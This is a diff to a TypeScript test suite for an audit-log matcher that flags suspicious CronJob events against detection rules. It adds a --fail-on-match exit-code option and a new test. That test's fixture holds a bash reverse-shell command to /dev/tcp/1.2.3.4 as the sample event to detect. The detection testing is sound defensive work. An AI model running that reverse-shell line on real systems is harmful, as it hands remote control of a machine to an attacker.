@@ -45,7 +45,7 @@ function cronjobEvent(args: string[], auditID: string): string {
 }
 
 describe('match', () => {
-  it('prints each match with evidence, skips bad lines with file:line, exits 1 on a match', async () => {
+  it('prints each match with evidence, skips bad lines with file:line, exits 1 under --fail-on-match', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'cw-match-'));
     writeFileSync(join(dir, 'rule.yml'), RULE);
     const events = join(dir, 'audit.jsonl');
@@ -58,7 +58,7 @@ describe('match', () => {
       ].join('\n'),
     );
     const { result, stdout, stderr } = await capture(() =>
-      matchEvents([events], { rules: [join(dir, 'rule.yml')], maxErrors: 20 }),
+      matchEvents([events], { rules: [join(dir, 'rule.yml')], maxErrors: 20, failOnMatch: true }),
     );
     expect(result).toBe(1);
     const lines = stdout
@@ -94,5 +94,18 @@ describe('match', () => {
       }),
     );
     expect(result).toBe(2);
+  });
+});
+
+describe('match exit status', () => {
+  it('is 0 when events were evaluated, matches or not, without --fail-on-match', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'cw-match-'));
+    writeFileSync(join(dir, 'rule.yml'), RULE);
+    writeFileSync(join(dir, 'e.jsonl'), cronjobEvent(['bash -i >& /dev/tcp/1.2.3.4/1 0>&1'], 'x'));
+    const { result, stdout } = await capture(() =>
+      matchEvents([join(dir, 'e.jsonl')], { rules: [join(dir, 'rule.yml')], maxErrors: 20 }),
+    );
+    expect(stdout).toContain('"auditID":"x"');
+    expect(result).toBe(0);
   });
 });
